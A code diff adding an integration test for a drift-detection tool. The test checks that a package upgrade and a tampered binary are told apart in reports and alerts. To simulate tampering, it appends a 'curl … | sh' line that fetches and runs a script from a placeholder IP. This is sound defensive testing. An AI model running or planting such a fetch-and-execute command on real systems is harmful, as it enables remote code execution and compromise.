@@ -1,7 +1,8 @@
-import { mkdirSync, writeFileSync } from "node:fs";
-import { join } from "node:path";
+import { appendFileSync, mkdirSync, writeFileSync } from "node:fs";
+import { basename, join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { dragnet, ndjson, requireBuild } from "../helpers/cli.js";
+import { installFakePackage, makePackageRoot, upgradePackagedFile } from "../helpers/fake-packages.js";
 import { eventually, startFleet, type TestFleet, tempDir } from "../helpers/fleet.js";
 
 // `dragnet drift` as an investigator runs it on three agents: baseline, a
@@ -82,5 +83,63 @@ describe("dragnet drift", () => {
     ]);
     expect(ndjson(stacked.stdout)[0]!.hostnames).toEqual([odd]);
     expect(rest).toHaveLength(2);
+  });
+
+  it("tags each changed file's origin from the package database; --skip-upgrades sets upgrades aside, in checks and alerts", async () => {
+    const pkgRoot = tempDir("dragnet-drift-packages-");
+    makePackageRoot(pkgRoot);
+    installFakePackage(pkgRoot, "dragnet-fake-tools", {
+      "usr/bin/tool-a": "#!/bin/sh\necho a 1.0\n",
+      "usr/bin/tool-b": "#!/bin/sh\necho b\n",
+    });
+    // The in-process agents read this root's dpkg database instead of the machine's.
+    process.env.DRAGNET_PACKAGE_ROOT = pkgRoot;
+    try {
+      const bin = join(pkgRoot, "usr/bin");
+      expect((await cli(["drift", "baseline", "-t", "all", "--path", bin, "--name", "usr", "-q"])).code).toBe(
+        0,
+      );
+      const watch = ["drift", "watch", "start", "-t", "all", "--path", bin, "--name", "usr-watch", "-q"];
+      expect((await cli(watch)).code).toBe(0);
+      const t0 = Date.now();
+      upgradePackagedFile(pkgRoot, "dragnet-fake-tools", "usr/bin/tool-a", "#!/bin/sh\necho a 2.0\n");
+      appendFileSync(join(bin, "tool-b"), "curl -s http://203.0.113.9/x | sh\n");
+
+      const check = ["--json", "drift", "check", "-t", "all", "--name", "usr", "--stack"];
+      const all = ndjson((await cli(check)).stdout);
+      expect(all.map((r) => [r.hosts, basename(String(r.path)), r.origin])).toEqual([
+        [3, "tool-a", "package (dpkg:dragnet-fake-tools)"],
+        [3, "tool-b", "modified (dpkg:dragnet-fake-tools)"],
+      ]);
+      const skipped = await cli([...check, "--skip-upgrades"]);
+      expect(ndjson(skipped.stdout).map((r) => basename(String(r.path)))).toEqual(["tool-b"]);
+      expect(skipped.stderr).toContain("3 changes set aside as package upgrades");
+
+      // The watches' alerts carry the same origins; --skip-upgrades leaves the upgrade out there too.
+      const since = new Date(t0).toISOString();
+      const alerted = await eventually(async () => {
+        const alerts = ndjson((await cli(["--json", "alerts", "--since", since])).stdout).filter(
+          (a) => a.watch === "usr-watch",
+        );
+        const changes = alerts.flatMap((a) => a.changes as Array<{ path: string; origin: string }>);
+        return changes.filter((c) => c.path.endsWith("/tool-b")).length === 3 &&
+          changes.filter((c) => c.path.endsWith("/tool-a")).length === 3
+          ? changes
+          : undefined;
+      }, 15_000);
+      expect([...new Set(alerted.map((c) => `${basename(c.path)} ${c.origin}`))].sort()).toEqual([
+        "tool-a package",
+        "tool-b modified",
+      ]);
+      const quiet = await cli(["--json", "alerts", "--since", since, "--skip-upgrades"]);
+      const kept = ndjson(quiet.stdout)
+        .filter((a) => a.watch === "usr-watch")
+        .flatMap((a) => (a.changes as Array<{ path: string }>).map((c) => basename(c.path)));
+      expect([...new Set(kept)]).toEqual(["tool-b"]);
+      expect(quiet.stderr).toMatch(/[1-9]\d* changes? set aside as package upgrades/);
+      await cli(["drift", "watch", "stop", "-t", "all", "--name", "usr-watch", "-q"]);
+    } finally {
+      delete process.env.DRAGNET_PACKAGE_ROOT;
+    }
   });
 });
